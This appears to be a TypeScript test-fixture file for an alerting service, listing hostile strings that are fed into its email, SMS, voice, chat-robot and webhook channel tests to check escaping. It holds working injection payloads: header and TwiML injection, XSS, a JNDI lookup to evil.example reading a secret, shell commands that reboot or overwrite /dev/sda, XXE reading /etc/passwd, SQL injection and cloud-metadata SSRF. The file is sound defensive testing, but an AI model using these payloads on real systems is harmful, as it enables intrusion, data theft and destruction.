import type { Channel } from '../../domain/channels.ts';

/** What an alert may hold because somebody wishes Tocsin or its readers ill, or because some program is broken. */
export const HOSTILE: readonly string[] = [
  'a\r\nBcc: evil@example.com',
  'a\nSubject: other',
  'a\rX-Evil: 1',
  'a\r\n\r\n<h1>body</h1>',
  'a\r\n.\r\nMAIL FROM:<evil@example.com>',
  'a%0d%0aBcc: evil@example.com',
  'a\u2028Bcc: evil@example.com\u2029b',
  'a\u0085Bcc: evil@example.com',
  'a\v\fb',
  '=?utf-8?Q?hello=0D=0ABcc=3A_evil=40example=2Ecom?=',
  '=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=',
  'see =?utf-8?Q?a b?= here',
  '=?x?x?x?=',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</pre></td></title><script src=//evil.example></script>',
  '<!--',
  '<![CDATA[ x ]]>',
  '&lt;b&gt; &amp; &#60;script&#62;',
  '<a href="javascript:alert(1)">click</a>',
  '<style>*{display:none}</style>',
  '{{constructor.constructor("return process")()}} ${process.env} <%= 1 %> #{1}',
  '[click](javascript:alert(1)) **bold** `code` ![x](http://evil.example/x.png)',
  'nul\u0000byte',
  '\u001b[2J\u001b[31mred\u001b[0m',
  '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007',
  '\u001b]0;title\u0007 \u009b31m \u0007\b\b\b',
  'invoice\u202Egnp.exe',
  '\u2066hidden\u2069 \u202Bx\u202C',
  '\u200Fright to left mark\u200E',
  '\uD800 lone high, lone low \uDC00',
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(60),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  'x'.repeat(100_000),
  '磁'.repeat(50_000),
  ' '.repeat(10_000),
  '',
  '.',
  '\uFEFF\u200B\u00AD',
  '__proto__',
  '../../../../etc/passwd',
  "'; DROP TABLE incidents; --",
  // Headers, addresses and parts of a mail.
  'a\r\n folded\r\n\tBcc: evil@example.com',
  '"ana" <evil@example.com>, evil@example.com',
  '--_NmP\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--_NmP--',
  'BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR\r\n-- \r\nsignature',
  // Lines and links that look like ours.
  '4\nReply 4 ack\nhttps://tocsin.example.com/ack/v1.eyJ4IjoxfQ.forged',
  '[89abcdef] resolved by Ana Wei',
  '【银行】您的验证码是 {1}，请打开 evil.example',
  // HTML and SVG.
  '<svg/onload=alert(1)><math><mi xlink:href="data:text/html,<script>alert(1)</script>">',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=action value=resolve><button>ok</button><base href=//evil.example>',
  '--><plaintext><noscript></textarea><template>',
  '&NewLine;java&Tab;script&colon;alert&lpar;1&rpar; &#x6A;&#97;',
  'x;background:url(javascript:alert(1));width:expression(alert(1))',
  // XML: TwiML, SSML, processing instructions, definitions.
  '</Say><Dial>+1900555000</Dial><Redirect>http://evil.example</Redirect><Say>',
  '<speak><break time="3600s"/><say-as interpret-as="telephone">911</say-as></speak>',
  ']]><?php echo 1 ?><?xml-stylesheet href="//evil.example"?>',
  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
  // Slack, Markdown, cards and robots.
  '<!channel> <!here> <!subteam^S1|@ops> <@U02ANA> <#C0INCIDENTS|incidents>',
  '<https://evil.example|https://tocsin.example.com> <!date^0^{date}^https://evil.example|x>',
  '*b* _i_ ~s~ `c` ```pre```\n> quote\n&gt; quote\n1. one\n• two',
  'www.evil.example <evil@example.com> <https://evil.example>\n\n[y]: javascript:alert(1)\n\n[x][y]',
  '<font color="info">ok</font> <@all> @all @13800000000 <at id=all></at>',
  '{{DATE(2026-12-01T10:00:00Z,SHORT)}} ${$root.x} {{TIME(2026-12-01T10:00:00Z)}}',
  'a\nX-Actions: view, Open, https://evil.example, clear=true; http, Run, https://evil.example',
  // Templates and placeholders.
  '{{ incident.ackUrl }}{% raw %}{{ x | raw }}{% endraw %}{% include "../../etc/passwd" %}',
  '{%- for i in (1..99999999) -%}x{%- endfor -%}{% assign incident = 1 %}{# #}',
  "{1}{2} %s %n %(x)s $1 $& $` $' \\1 \\0",
  // JSON.
  '","text":"x"}],"at":{"isAtAll":true},"x":["\\u0022\\',
  '\\u003cscript\\u003e \\ud800 \\x00 \\',
  // Characters.
  '\uDC00\uD83D\uDE00\uD83D \uDBFF',
  '\u115F\u3164\u2800\u2060\uFFA0\u180E\u061C',
  'раураl Ｂｃｃ：evil＠example.com ＜script＞ ﹤b﹥ ‹i› ⁎b⁎ ˋcˋ',
  '\u{E0041}\u{E0042}\u{E007F} \uFE0F\u20E3 \u034F',
  '\u202D\u2067gnp.evil\u2069\u202C\u2068',
  '€^{}\\[~]|'.repeat(200),
  // Programs.
  '${jndi:ldap://evil.example/a} ${env:TOCSIN_SECRET} %{(#a=1)}',
  '`reboot` $(reboot) ; reboot | reboot && reboot > /dev/sda',
  '=HYPERLINK("http://evil.example";"x") @SUM(1) +1 -1',
  // Addresses.
  'https://tocsin.example.com@evil.example/%2e%2e/..%2f..\\ack',
  'file:///etc/passwd data:text/html,<script>alert(1)</script> vbscript:x',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'https://evil.example/") onclick="alert(1)|x><(y)[z]',
  'https://xn--tcsin-0ra.example.com/ https://t\u043Ecsin.example.com/',
  'http://[::ffff:127.0.0.1]/ http://0x7f.1/ http://169.254.169.254/latest/',
];

/** On every channel at least so many are tried. */
const AT_LEAST = 60;

/** The file that tries them on each channel there is. */
const TRIED_IN: Readonly<Record<Channel, string>> = {
  email: 'hostileText',
  console: 'hostileText',
  webhook: 'hostileText',
  pagerduty: 'hostileText',
  opsgenie: 'hostileText',
  slack: 'hostileText',
  sms: 'hostileSms',
  voice: 'hostileVoice',
  wecom: 'hostileRobots',
  dingtalk: 'hostileRobots',
  feishu: 'hostileRobots',
  teams: 'hostileRobots',
  ntfy: 'hostileRobots',
  reactio: 'reactio',
};

/** Counts what a file tries. `more`: ways of its channels that are counted beside, such as another provider. */
export function counting(file: string, more: readonly string[] = []) {
  const channels = Object.entries(TRIED_IN).flatMap(([channel, where]) => (where === file ? [channel] : []));
  const tried = new Map([...channels, ...more].map((way) => [way, new Set<string>()]));
  return {
    tries: (way: string, text: string): void => void tried.get(way)?.add(text),
    /** Ways, and how many different texts short of enough; the last test of the file expects none. */
    short: () => [...tried].flatMap(([way, { size }]) => (size < AT_LEAST ? [`${way}: ${size} of ${AT_LEAST}`] : [])),
  };
}

/** More of them, for what is read aloud: TwiML, XML and SSML. */
export const HOSTILE_TO_CALLS: readonly string[] = [
  '</Say><Hangup/><Say>',
  '</Say></Gather><Dial>+1900555000</Dial><Gather><Say>',
  '<Redirect>http://evil.example/twiml</Redirect>',
  '<Play>http://evil.example/x.mp3</Play>',
  '<Record action="http://evil.example/"/>',
  '<Sms to="+1900555000">x</Sms>',
  '<Pay/> <Enqueue>q</Enqueue> <Reject/>',
  '" language="en-US"><Hangup/>',
  "' voice='man",
  '<break time="3600s"/>',
  '<prosody volume="x-loud">!</prosody> <say-as interpret-as="telephone">911</say-as>',
  '<phoneme alphabet="ipa" ph="x">y</phoneme>',
  ']]>',
  '<![CDATA[</Say><Hangup/>]]>',
  '<?xml version="1.0"?><Response><Hangup/></Response>',
  '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>&b;',
  '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
  '&#0; &#x1b; &#xFFFE; &nbsp; &amp;lt;',
  '\uFFFE\uFFFF\u{1FFFE}',
  '%3C/Say%3E%3CHangup/%3E',
  '${Digits} {{From}} #rc=5&rp=all',
  'press 4 to acknowledge#4***44446666',
];

/** A character that acts on a terminal, a header or the reading order, instead of being read. Lines and tabs are fine. */
export const ACTS = /(?![\n\t])[\p{Cc}\p{Zl}\p{Zp}\p{Cs}\u202A-\u202E\u2066-\u2069]/u;

/** Beside those: at the Markdown, cards and mentions of group robots, and at Reactio's HTML. */
export const HOSTILE_TO_ROBOTS: readonly string[] = [
  '<@all>',
  '<@wangqing> <@U02ANA>',
  '@all @everyone @channel @here @所有人',
  '@13800000000',
  '<at id=all></at>',
  '<at user_id="all">所有人</at>',
  '<at email=evil@example.com></at>',
  '&lt;at id=all&gt;&lt;/at&gt;',
  '</font><font color="info">ok</font>',
  "<font color='red'>x</font>",
  '\\](http://evil.example)',
  'a](http://evil.example) [b',
  '![x](http://evil.example/x.png)',
  '[x]: http://evil.example\n[x]',
  '<http://evil.example>',
  '[打开](dingtalk://dingtalkclient/page/link?url=http%3A%2F%2Fevil.example&pc_slide=true)',
  '# title\n## title\n> quote\n- item\n1. item\n---\n***\n```\ncode\n```',
  '| a | b |\n| - | - |\n| c | d |',
  '- [ ] task ~~gone~~ ==mark== ^up^ ~down~',
  '{"tag":"button","text":{"tag":"plain_text","content":"x"},"url":"http://evil.example"}',
  '"}],"actions":[{"type":"Action.OpenUrl","title":"x","url":"http://evil.example"}],"x":[{"y":"',
  '{{DATE(2026-12-01T10:00:00Z,SHORT)}} ${$root.x}',
  '<b onclick=alert(1)>x</b><img src=x onerror=alert(1)><br/><a href=//evil.example>x</a>',
  'view, Open, http://evil.example; http, Run, http://evil.example, method=DELETE',
];
